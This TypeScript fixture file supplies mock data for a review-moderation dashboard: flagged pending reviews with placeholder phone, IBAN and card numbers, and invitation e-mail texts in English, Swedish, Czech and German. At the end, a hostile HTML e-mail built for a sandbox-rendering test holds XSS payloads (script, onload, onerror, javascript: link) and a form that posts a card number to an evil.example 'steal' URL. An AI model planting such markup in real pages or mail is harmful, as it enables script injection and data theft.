/**
 * Fixture data of the business side: reviews waiting for moderation with the R4 flags the
 * server's automatic checks would give them, and e-mails as the outbox holds them. Flags are data
 * here (the server's detectors are not imported: the mocks and the server never import each
 * other); each `match` is written exactly as it stands in the text.
 */
import type { Flag } from '../contract/admin.js';
import type { FixtureLanguage, ReviewText } from './texts.js';
import { HOSTILE_TEXTS, LONG_TEXT } from './texts.js';

export interface PendingFixture {
  language: FixtureLanguage;
  rating: number;
  verified: boolean;
  author: string;
  text: ReviewText;
  flags: Flag[];
}

/** Newest first: the first ones are the ones every story and test relies on. */
export const PENDING_FIXTURES: PendingFixture[] = [
  {
    language: 'en',
    rating: 1,
    verified: false,
    author: 'Anna Berg',
    text: {
      title: 'Nobody answers the phone',
      body: 'The parcel never came and the manager Erik hung up on me. Call me on +46 70 123 45 67 or write to anna.berg@mail.example if you want to explain.',
    },
    flags: [
      { reason: 'personal_data', kind: 'phone', field: 'body', match: '+46 70 123 45 67' },
      { reason: 'personal_data', kind: 'email', field: 'body', match: 'anna.berg@mail.example' },
    ],
  },
  {
    language: 'sv',
    rating: 2,
    verified: true,
    author: 'Lars',
    text: {
      title: 'Idioter på lagret',
      body: 'Vilka idioter som packar era paket, hälften av bönorna låg lösa i kartongen. Kaffet i sig är gott.',
    },
    flags: [
      { reason: 'offensive', kind: 'insult', field: 'title', match: 'Idioter' },
      { reason: 'offensive', kind: 'insult', field: 'body', match: 'idioter' },
    ],
  },
  {
    language: 'en',
    rating: 5,
    verified: true,
    author: 'Sam',
    text: {
      title: 'Great beans, charged twice',
      body: 'Lovely coffee as always, but I was charged twice. Please refund to SE45 5000 0000 0583 9825 7466 — or to the card 4111 1111 1111 1111.',
    },
    flags: [
      { reason: 'personal_data', kind: 'iban', field: 'body', match: 'SE45 5000 0000 0583 9825 7466' },
      { reason: 'personal_data', kind: 'card', field: 'body', match: '4111 1111 1111 1111' },
    ],
  },
  { language: 'en', rating: 1, verified: false, author: 'x', text: HOSTILE_TEXTS[0]!, flags: [] },
  { language: 'en', rating: 4, verified: true, author: 'Mira', text: LONG_TEXT, flags: [] },
  {
    language: 'de',
    rating: 3,
    verified: true,
    author: 'Jonas',
    text: {
      title: 'Solide, aber teuer',
      body: 'Guter Kaffee und schnelle Lieferung. Für den Alltag ist er mir etwas zu teuer, aber für das Wochenende gerne.',
    },
    flags: [],
  },
  {
    language: 'cs',
    rating: 4,
    verified: false,
    author: 'Petra',
    text: {
      title: null,
      body: 'Káva dorazila rychle a byla čerstvá. Mlýnek je trochu hlučný, ale jinak spokojenost.',
    },
    flags: [],
  },
];

/** How many more ordinary pending reviews the demo business has, so the inbox pages. */
export const MORE_PENDING = 31;

export interface MailTexts {
  subject: (shop: string) => string;
  greeting: (name: string) => string;
  ask: (shop: string) => string;
  honest: string;
  button: string;
  unsubscribe: string;
}

/** The invitation e-mail in the four languages (the server's templates are the real ones). */
export const MAIL_TEXTS: Record<FixtureLanguage, MailTexts> = {
  en: {
    subject: (shop) => `How was your order from ${shop}?`,
    greeting: (name) => `Hello ${name},`,
    ask: (shop) => `${shop} would like to hear about your order. It takes two minutes.`,
    honest: 'Reviews are published whatever their rating. No reward is offered for writing one.',
    button: 'Write a review',
    unsubscribe: 'Do not ask me again',
  },
  sv: {
    subject: (shop) => `Hur var din beställning från ${shop}?`,
    greeting: (name) => `Hej ${name},`,
    ask: (shop) => `${shop} vill gärna höra vad du tyckte om din beställning. Det tar två minuter.`,
    honest: 'Omdömen publiceras oavsett betyg. Ingen belöning erbjuds för att skriva ett.',
    button: 'Skriv ett omdöme',
    unsubscribe: 'Fråga mig inte igen',
  },
  cs: {
    subject: (shop) => `Jak jste byli spokojeni s objednávkou z ${shop}?`,
    greeting: (name) => `Dobrý den, ${name},`,
    ask: (shop) => `${shop} by rád slyšel, jak jste byli spokojeni. Zabere to dvě minuty.`,
    honest: 'Recenze zveřejňujeme bez ohledu na hodnocení. Za napsání recenze nenabízíme žádnou odměnu.',
    button: 'Napsat recenzi',
    unsubscribe: 'Už se mě neptejte',
  },
  de: {
    subject: (shop) => `Wie war Ihre Bestellung bei ${shop}?`,
    greeting: (name) => `Hallo ${name},`,
    ask: (shop) => `${shop} möchte gern wissen, wie Ihnen Ihre Bestellung gefallen hat. Es dauert zwei Minuten.`,
    honest:
      'Bewertungen werden unabhängig von der Sternezahl veröffentlicht. Für eine Bewertung gibt es keine Belohnung.',
    button: 'Bewertung schreiben',
    unsubscribe: 'Nicht mehr fragen',
  },
};

/**
 * A message whose HTML tries everything an e-mail must not be able to do in the dashboard:
 * scripts, event handlers, remote images, forms and links out. The outbox's sandboxed frame
 * must show it inert.
 */
export const HOSTILE_MAIL_HTML = `<!doctype html><html><body onload="alert('onload')">
<h1 style="color:#b00">Hostile test message</h1>
<script>alert('script'); parent.document.title = 'pwned';</script>
<img src="https://tracker.example/pixel.gif" alt="remote pixel">
<img src=x onerror="alert('onerror')">
<form action="https://evil.example/steal"><input name="card" value="4111111111111111"><button>Send</button></form>
<a href="javascript:alert('link')">javascript link</a>
<iframe src="https://evil.example/"></iframe>
</body></html>`;
